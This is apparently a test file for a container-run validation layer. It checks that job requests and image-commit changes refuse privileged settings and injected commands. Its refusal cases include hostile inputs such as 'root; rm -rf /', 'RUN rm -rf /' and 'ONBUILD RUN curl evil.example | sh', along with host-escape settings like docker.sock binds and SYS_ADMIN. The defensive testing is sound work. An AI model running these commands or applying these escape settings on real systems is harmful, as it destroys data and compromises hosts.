import { DrydockError, ErrorCode } from '@drydock/core';
import { containerCreateBody, DRYDOCK_LABEL, isManaged } from '@drydock/docker';
import { RUN_LABELS, runContainerSpec } from '@drydock/jobs';
import {
  checkCommitChanges,
  checkCommitText,
  checkContainerId,
  checkRunRequest,
  COMMIT_INSTRUCTIONS,
  fenceRun,
  RUN_FIELDS,
  type RunRequest,
} from './fence';

const limits = { memoryBytes: 256 * 1024 * 1024, nanoCpus: 500_000_000, pidsLimit: 128 };
const requester = { team: 'team-a', owner: 'ci-a' };

function refusal(action: () => unknown): DrydockError {
  try {
    action();
  } catch (error) {
    expect(error).toBeInstanceOf(DrydockError);
    expect((error as DrydockError).code).toBe(ErrorCode.VALIDATION_FAILED);
    return error as DrydockError;
  }
  throw new Error('expected a VALIDATION_FAILED refusal');
}

/** A request all the way to the body the engine receives. */
function engineBody(request: RunRequest) {
  const data = fenceRun(checkRunRequest(request), request.image, limits, requester, 'drydock-test');
  return containerCreateBody(runContainerSpec('job-1', data), 'marker-1');
}

describe('run fence: what a request may ask for', () => {
  it('takes exactly image, cmd, env, workingDir and user', () => {
    expect([...RUN_FIELDS]).toEqual(['image', 'cmd', 'env', 'workingDir', 'user']);
    const full = { image: 'busybox:1', cmd: ['sh', '-c', 'echo hi'], env: ['A=b', 'EMPTY=', 'MULTI=x\ny'], workingDir: '/app', user: '1000:1000' };
    expect(checkRunRequest(full)).toEqual(full);
    expect(checkRunRequest({ image: 'busybox' })).toEqual({ image: 'busybox' });
  });

  it('treats null as absent, as GraphQL sends omitted optional fields', () => {
    expect(checkRunRequest({ image: 'busybox', cmd: null, env: null, workingDir: null, user: null })).toEqual({ image: 'busybox' });
  });

  it.each([
    ['privileged', true],
    ['binds', ['/:/host']],
    ['hostConfig', { Privileged: true }],
    ['HostConfig', { Binds: ['/var/run/docker.sock:/var/run/docker.sock'] }],
    ['capAdd', ['SYS_ADMIN']],
    ['networkMode', 'host'],
    ['pidMode', 'host'],
    ['ipcMode', 'host'],
    ['usernsMode', 'host'],
    ['volumes', { '/host': {} }],
    ['mounts', [{ Type: 'bind', Source: '/', Target: '/host' }]],
    ['devices', [{ PathOnHost: '/dev/sda' }]],
    ['securityOpt', ['seccomp=unconfined']],
    ['labels', { [DRYDOCK_LABEL]: 'forged' }],
    ['memory', 0],
    ['entrypoint', ['/bin/sh']],
  ])('refuses %s, naming it', (field, value) => {
    const error = refusal(() => checkRunRequest({ image: 'busybox', [field]: value }));
    expect(error.message).toContain(field);
  });

  it.each([
    [{}, 'image'],
    [{ image: '' }, 'image'],
    [{ image: 42 }, 'image'],
    [{ image: 'x'.repeat(513) }, 'image'],
    [{ image: 'busybox', cmd: 'echo hi' }, 'cmd'],
    [{ image: 'busybox', cmd: [] }, 'cmd'],
    [{ image: 'busybox', cmd: ['echo', 3] }, 'cmd[1]'],
    [{ image: 'busybox', cmd: ['echo', 'a\0b'] }, 'cmd[1]'],
    [{ image: 'busybox', cmd: Array.from({ length: 257 }, () => 'x') }, 'cmd'],
    [{ image: 'busybox', cmd: Array.from({ length: 16 }, () => 'x'.repeat(20_000)) }, 'cmd'],
    [{ image: 'busybox', env: ['NOEQUALS'] }, 'env[0]'],
    [{ image: 'busybox', env: ['A=b', '1A=b'] }, 'env[1]'],
    [{ image: 'busybox', env: ['=value'] }, 'env[0]'],
    [{ image: 'busybox', env: ['A-B=c'] }, 'env[0]'],
    [{ image: 'busybox', env: 'A=b' }, 'env'],
    [{ image: 'busybox', workingDir: 'relative/dir' }, 'workingDir'],
    [{ image: 'busybox', workingDir: '' }, 'workingDir'],
    [{ image: 'busybox', user: 'root; rm -rf /' }, 'user'],
    [{ image: 'busybox', user: 'a:b:c' }, 'user'],
    [{ image: 'busybox', user: '' }, 'user'],
  ])('checks values: %j is refused naming %s', (request, field) => {
    expect(refusal(() => checkRunRequest(request)).message).toContain(field);
  });
});

describe('run fence: the body the engine receives', () => {
  it('is locked down whatever the request', () => {
    const body = engineBody({ image: 'busybox:1', cmd: ['id'], env: ['A=b'], workingDir: '/w', user: 'nobody' });
    expect(body).toMatchObject({
      Image: 'busybox:1',
      Cmd: ['id'],
      Env: ['A=b'],
      WorkingDir: '/w',
      User: 'nobody',
      Tty: false,
      OpenStdin: false,
      NetworkDisabled: true,
    });
    expect(body.HostConfig).toEqual({
      NetworkMode: 'none',
      Privileged: false,
      CapAdd: [],
      CapDrop: expect.arrayContaining(['NET_RAW', 'MKNOD']),
      SecurityOpt: ['no-new-privileges'],
      Binds: [],
      Mounts: [],
      Devices: [],
      PortBindings: {},
      PublishAllPorts: false,
      IpcMode: 'private',
      Memory: limits.memoryBytes,
      MemorySwap: limits.memoryBytes,
      NanoCpus: limits.nanoCpus,
      PidsLimit: limits.pidsLimit,
      AutoRemove: false,
      LogConfig: { Type: 'json-file', Config: expect.objectContaining({ 'max-size': expect.any(String) }) },
    });
  });

  it('labels the container as Drydock\'s, with the job and its attempt, team, owner and installation', () => {
    const body = engineBody({ image: 'busybox' });
    expect(body.Labels).toEqual({
      [DRYDOCK_LABEL]: 'marker-1',
      [RUN_LABELS.job]: 'job-1',
      [RUN_LABELS.attempt]: '1',
      [RUN_LABELS.team]: 'team-a',
      [RUN_LABELS.owner]: 'ci-a',
      [RUN_LABELS.deployment]: 'drydock-test',
    });
  });

  it('takes the limits from configuration, not from the request', () => {
    const data = fenceRun(checkRunRequest({ image: 'busybox' }), 'busybox:latest', limits, requester, 'd');
    expect(data).toEqual({ image: 'busybox:latest', team: 'team-a', owner: 'ci-a', deployment: 'd', ...limits });
  });

  it('keeps the marker last, so no spec label replaces it', () => {
    const body = containerCreateBody(
      { image: 'busybox', labels: { [DRYDOCK_LABEL]: 'forged' }, memoryBytes: 0, nanoCpus: 0, network: 'none' },
      'real',
    );
    expect(body.Labels[DRYDOCK_LABEL]).toBe('real');
    expect(body.HostConfig.MemorySwap).toBe(0);
  });
});

describe('isManaged: whose container it is', () => {
  it('is Drydock\'s when the label was set at creation', () => {
    expect(isManaged({ [DRYDOCK_LABEL]: 'abc' }, {})).toBe(true);
    expect(isManaged({ [DRYDOCK_LABEL]: 'abc' }, { [DRYDOCK_LABEL]: 'other' })).toBe(true);
    expect(isManaged({ [DRYDOCK_LABEL]: 'abc' }, null)).toBe(true);
  });

  it('is not when the label is absent or inherited from the image', () => {
    expect(isManaged({}, {})).toBe(false);
    expect(isManaged(null, null)).toBe(false);
    expect(isManaged({ [DRYDOCK_LABEL]: '' }, {})).toBe(false);
    expect(isManaged({ [DRYDOCK_LABEL]: 'abc' }, { [DRYDOCK_LABEL]: 'abc' })).toBe(false);
  });
});

describe('container ids', () => {
  it.each(['0b2616b0e5a8', 'a'.repeat(64), 'drydock_run-1.x'])('takes %s', (id) => {
    expect(checkContainerId(id)).toBe(id);
  });

  it.each(['', '../../images/busybox', 'a/b', '-rf', 'a b', 'x'.repeat(129), 'a%2Fb'])('refuses %j', (id) => {
    refusal(() => checkContainerId(id));
  });
});

describe('commit changes', () => {
  it.each([
    'CMD ["/bin/sh"]',
    'CMD echo hello',
    'cmd ["cat", "/gem"]',
    'ENTRYPOINT ["/docker-entrypoint.sh"]',
    'ENV A=b',
    'ENV A=b C="d e"',
    'ENV LEGACY value with spaces',
    'EXPOSE 80',
    'EXPOSE 80/tcp 53/udp 8000-8010',
    'LABEL org.opencontainers.image.title="sinatra"',
    'STOPSIGNAL SIGTERM',
    'STOPSIGNAL 9',
    'USER 1000:1000',
    'VOLUME /data',
    'VOLUME ["/data", "/logs"]',
    'WORKDIR /app',
  ])('allows %s', (change) => {
    expect(checkCommitChanges([change])).toEqual([change]);
  });

  it('allows exactly the metadata instructions', () => {
    expect([...COMMIT_INSTRUCTIONS]).toEqual(['CMD', 'ENTRYPOINT', 'ENV', 'EXPOSE', 'LABEL', 'STOPSIGNAL', 'USER', 'VOLUME', 'WORKDIR']);
  });

  it.each([
    ['RUN rm -rf /', 'RUN'],
    ['run echo hi', 'RUN'],
    ['ONBUILD RUN curl evil.example | sh', 'ONBUILD'],
    ['ADD http://example.com/x /x', 'ADD'],
    ['COPY . /app', 'COPY'],
    ['FROM scratch', 'FROM'],
    ['HEALTHCHECK CMD true', 'HEALTHCHECK'],
    ['SHELL ["/bin/bash"]', 'SHELL'],
    ['MAINTAINER someone', 'MAINTAINER'],
    ['FOO bar', 'FOO'],
  ])('refuses %s, naming %s', (change, instruction) => {
    const error = refusal(() => checkCommitChanges(['ENV OK=1', change]));
    expect(error.message).toContain(`changes[1]: instruction ${instruction} is not allowed`);
  });

  it.each([
    ['CMD ["/bin/sh"]\nRUN id', 'one instruction per entry'],
    ['ENV A=b \\', 'line continuations'],
    ['CMD', 'needs arguments'],
    ['CMD [not json', 'JSON array of strings'],
    ['ENTRYPOINT ["sh", 1]', 'JSON array of strings'],
    ['EXPOSE 99999', 'EXPOSE'],
    ['EXPOSE http', 'EXPOSE'],
    ['STOPSIGNAL "; rm', 'STOPSIGNAL'],
    ['USER root;id', 'USER'],
    ['VOLUME relative', 'VOLUME'],
    ['WORKDIR relative', 'WORKDIR'],
    ['ENV =b', 'ENV'],
    ['LABEL novalue', 'LABEL'],
    ['"CMD" x', 'expected a Dockerfile instruction'],
  ])('checks the arguments of %j', (change, fragment) => {
    expect(refusal(() => checkCommitChanges([change])).message).toContain(fragment);
  });

  it('bounds the list and takes none', () => {
    expect(checkCommitChanges(undefined)).toEqual([]);
    expect(checkCommitChanges(null)).toEqual([]);
    refusal(() => checkCommitChanges('CMD x'));
    refusal(() => checkCommitChanges(Array.from({ length: 65 }, () => 'ENV A=b')));
  });

  it('checks message and author', () => {
    expect(checkCommitText('Added json gem', 'Kate Smith')).toEqual({ message: 'Added json gem', author: 'Kate Smith' });
    expect(checkCommitText(undefined, null)).toEqual({ message: '', author: '' });
    refusal(() => checkCommitText('x', 'Kate\nSmith'));
    refusal(() => checkCommitText('a\0b', 'Kate'));
  });
});
